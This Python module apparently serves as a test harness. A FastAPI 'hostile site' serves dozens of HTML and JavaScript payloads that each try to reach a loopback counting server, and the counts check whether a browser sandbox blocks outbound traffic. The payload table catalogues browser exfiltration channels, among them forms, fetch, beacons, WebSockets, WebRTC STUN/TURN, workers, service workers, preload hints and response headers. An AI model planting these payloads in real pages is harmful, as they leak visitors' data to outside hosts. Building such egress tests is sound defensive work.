"""A hostile site, and the elsewhere that it wants to reach.

Each attack is a page of its own. What arrives elsewhere is counted by what arrives, not by what a browser says of it:
every TCP connection and every datagram.
"""

from __future__ import annotations

import asyncio
import re
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

from fastapi import FastAPI, Request, Response
from fastapi.responses import HTMLResponse

ATTACKS = {
    "meta": "<meta http-equiv='refresh' content='0;url=OUT'>",
    "location": "<script>location = 'OUT'</script>",
    "location-with-name": "<script>location = 'http://127.0.0.1@' + 'OUT'.slice(7)</script>",
    "top": "<iframe srcdoc=\"<script>top.location = 'OUT'</script>\"></iframe>",
    "open": "<script>window.open('OUT')</script>",
    "open-and-steer": "<script>{ const w = window.open('about:blank'); w && (w.location = 'OUT') }</script>",
    "link-blank": "<a target=_blank href='OUT'>go</a><script>BEFORE.click()</script>",
    "link-ping": "<a ping='OUT' href='#here'>go</a><script>BEFORE.click()</script>",
    "download": "<a download href='OUT'>go</a><script>BEFORE.click()</script>",
    "form-post": "<form method=post action='OUT'><input name=a value=b></form><script>BEFORE.submit()</script>",
    "form-get": "<form action='OUT'><input name=a value=b></form><script>BEFORE.submit()</script>",
    "form-blank": "<form method=post target=_blank action='OUT'></form><script>BEFORE.submit()</script>",
    "form-307": "<form method=post action='/away/307?to=OUT'></form><script>BEFORE.submit()</script>",
    "iframe": "<iframe src='OUT'></iframe>",
    "iframe-302": "<iframe src='/away/302?to=OUT'></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<img src='OUT'>\"></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='OUT'>\"></iframe>",
    "iframe-blob": "<iframe></iframe><script>BEFORE.src = URL.createObjectURL("
    "new Blob([\"<img src='OUT'>\"], {type: 'text/html'}))</script>",
    "javascript": "<iframe src=\"javascript:fetch('OUT', {mode: 'no-cors'})\"></iframe>",
    "blob": "<script>location = URL.createObjectURL(new Blob([\"<img src='OUT'>\"], {type: 'text/html'}))</script>",
    "img": "<img src='OUT'>",
    "img-302": "<img src='/away/302?to=OUT'>",
    "img-set": "<img srcset='OUT 1x, OUT 2x'>",
    "svg": "<svg><image href='OUT'/></svg>",
    "script": "<script src='OUT'></script>",
    "module": "<script type=module>import('OUT').catch(() => {})</script>",
    "css": "<link rel=stylesheet href='OUT'>",
    "css-import": "<style>@import 'OUT';</style>",
    "css-image": "<body style=\"background: url('OUT')\">x",
    "font": "<style>@font-face { font-family: f; src: url('OUT') } p { font-family: f }</style><p>x</p>",
    "object": "<object data='OUT'></object><embed src='OUT'>",
    "media": "<video autoplay src='OUT'></video><audio autoplay src='OUT'></audio>",
    "track": "<video src='/nothing' crossorigin><track default src='OUT'></video>",
    "icon": "<link rel=icon href='OUT'>",
    "manifest": "<link rel=manifest href='OUT'>",
    "base": "<base href='OUT/'><img src='below'>",
    "prefetch": "<link rel=prefetch href='OUT'>",
    "preload": "<link rel=preload as=image href='OUT'>",
    "modulepreload": "<link rel=modulepreload href='OUT'>",
    "preconnect": "<link rel=preconnect href='OUT'>",
    "dns-prefetch": "<link rel=dns-prefetch href='http://prefetched.hostile.test/'>",
    "speculation": "<script type=speculationrules>"
    '{"prerender": [{"urls": ["OUT"], "eagerness": "immediate"}], '
    '"prefetch": [{"urls": ["OUT"], "eagerness": "immediate"}]}</script>',
    "fetch": "<script>fetch('OUT', {mode: 'no-cors'}).catch(() => {})</script>",
    "fetch-302": "<script>fetch('/away/302?to=OUT').catch(() => {})</script>",
    "fetch-keepalive": "<script>fetch('OUT', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'})"
    ".catch(() => {})</script>",
    "xhr": "<script>{ const x = new XMLHttpRequest(); x.open('GET', 'OUT'); x.send() }</script>",
    "beacon": "<script>navigator.sendBeacon('OUT', 'x')</script>",
    "beacon-on-leaving": "<script>addEventListener('pagehide', () => navigator.sendBeacon('OUT', 'x'))</script>",
    "event-source": "<script>new EventSource('OUT')</script>",
    "web-socket": "<script>new WebSocket('OUT'.replace('http', 'ws'))</script>",
    "web-socket-here": "<script>new WebSocket(location.origin.replace('http', 'ws') + '/socket')</script>",
    "web-transport": "<script>new WebTransport('DATAGRAM').ready.catch(() => {})</script>",
    "web-rtc": "<script>{ const p = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}, "
    "{urls: 'turn:TCP?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); "
    "p.createOffer().then((o) => p.setLocalDescription(o)) }</script>",
    "worker": "<script>new Worker('/worker.js?to=OUT')</script>",
    "worker-blob": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('OUT', {mode: 'no-cors'})\"])))</script>",
    "shared-worker": "<script>new SharedWorker('/worker.js?to=OUT')</script>",
    "service-worker": "<script>navigator.serviceWorker && "
    "navigator.serviceWorker.register('/service.js?to=OUT').catch(() => {})</script>",
    "worklet": "<script>new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('OUT').catch(() => {})</script>",
    "localhost": "<script>fetch('OUT'.replace('127.0.0.1', 'localhost'), {mode: 'no-cors'}).catch(() => {})</script>",
    "report-only": "<script>eval('1')</script><img src='/nothing'>",
    "refresh-header": "away by a header",
    "link-header": "preloads by a header",
}
"""OUT is an address elsewhere with the attack's name in it; UDP, TCP its host and port; BEFORE what stands before."""
ALONE = {
    "meta", "location", "location-with-name", "top", "form-post", "form-get", "form-307", "blob", "base",
    "beacon-on-leaving", "report-only", "refresh-header", "link-header", "download", "link-ping",
}  # fmt: skip
"""What leads the page away, or changes what stands beside it; the others can share a page."""
SHARED = 8
HEADERS = {
    "report-only": {"Content-Security-Policy-Report-Only": "default-src 'none'; report-uri OUT"},
    "refresh-header": {"Refresh": "0; url=OUT"},
    "link-header": {"Link": "<OUT>; rel=preload; as=image, <OUT>; rel=preconnect"},
}
SILENT = {
    "location-with-name",
    "dns-prefetch",
    "web-socket-here",
    "web-transport",
    "manifest",
    "link-ping",
    "icon",
    "speculation",
}
"""What does not arrive elsewhere from a plain headless browser on loopback either, or leaves no trace there."""


def tries() -> list[str]:
    """The pages to open, each with one attack or with several, as a path of the site."""
    together = [name for name in ATTACKS if name not in ALONE]
    groups = [together[start : start + SHARED] for start in range(0, len(together), SHARED)]
    return [f"/attack/{','.join(names)}" for names in [*groups, *([name] for name in ATTACKS if name in ALONE)]]


@dataclass
class Elsewhere:
    """Where nothing should arrive."""

    port: int = 0
    arrived: Counter[str] = field(default_factory=Counter)
    """How often each attack got through; "connection" where nothing was said on one, "datagram" by UDP."""

    @property
    def total(self) -> int:
        """Everything that arrived."""
        return self.arrived.total()

    async def call(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Count a connection by the attack that its first line names, and end it."""
        line = b""
        try:
            async with asyncio.timeout(2):
                line = await reader.readline()
        except (TimeoutError, OSError, ValueError):
            pass
        named = re.search(rb"/from/([a-z0-9-]+)", line)
        self.arrived[named[1].decode() if named else "connection"] += 1
        writer.write(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
        writer.close()


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, elsewhere: Elsewhere) -> None:
        self.elsewhere = elsewhere

    def datagram_received(self, *_: object) -> None:
        self.elsewhere.arrived["datagram"] += 1


@asynccontextmanager
async def elsewhere() -> AsyncIterator[Elsewhere]:
    """A server that counts, by TCP and by UDP on the same port."""
    counting = Elsewhere()
    server = await asyncio.start_server(counting.call, "127.0.0.1", 0)
    counting.port = server.sockets[0].getsockname()[1]
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(
        lambda: _Datagrams(counting), local_addr=("127.0.0.1", counting.port)
    )
    try:
        yield counting
    finally:
        transport.close()
        server.close()


def hostile(port: int) -> FastAPI:
    """The site, whose attacks aim at this port of loopback."""
    app = FastAPI()

    def aimed(text: str, name: str) -> str:
        out = f"http://127.0.0.1:{port}/from/{name}"
        text = text.replace("BEFORE", "document.currentScript.previousElementSibling")
        text = text.replace("DATAGRAM", f"https://127.0.0.1:{port}/from/{name}").replace("OUT", out)
        return text.replace("stun:UDP", f"stun:127.0.0.1:{port}").replace("turn:TCP", f"turn:127.0.0.1:{port}")

    @app.get("/attack/{names}")
    async def attack(names: str) -> Response:
        listed = names.split(",")
        headers = {key: aimed(text, name) for name in listed for key, text in HEADERS.get(name, {}).items()}
        parts = "".join(f"<div>{aimed(ATTACKS[name], name)}</div>" for name in listed)
        return HTMLResponse(f"<!doctype html><title>x</title><body>{parts}</body>", headers=headers)

    @app.api_route("/away/{status}", methods=["GET", "POST"])
    async def away(status: int, to: str) -> Response:
        return Response(status_code=status, headers={"Location": to})

    @app.get("/worker.js")
    async def worker(to: str) -> Response:
        script = (
            f"fetch('{to}', {{mode: 'no-cors'}}).catch(() => {{}}); importScripts('{to}'); "
            f"new WebSocket('{to}'.replace('http', 'ws'))"
        )
        return Response(script, media_type="text/javascript")

    @app.get("/service.js")
    async def service(to: str) -> Response:
        script = f"self.oninstall = (event) => event.waitUntil(fetch('{to}', {{mode: 'no-cors'}}))"
        return Response(script, media_type="text/javascript")

    @app.get("/{path:path}")
    async def anything(path: str, request: Request) -> Response:
        return HTMLResponse(f"{path} {request.method}")

    return app
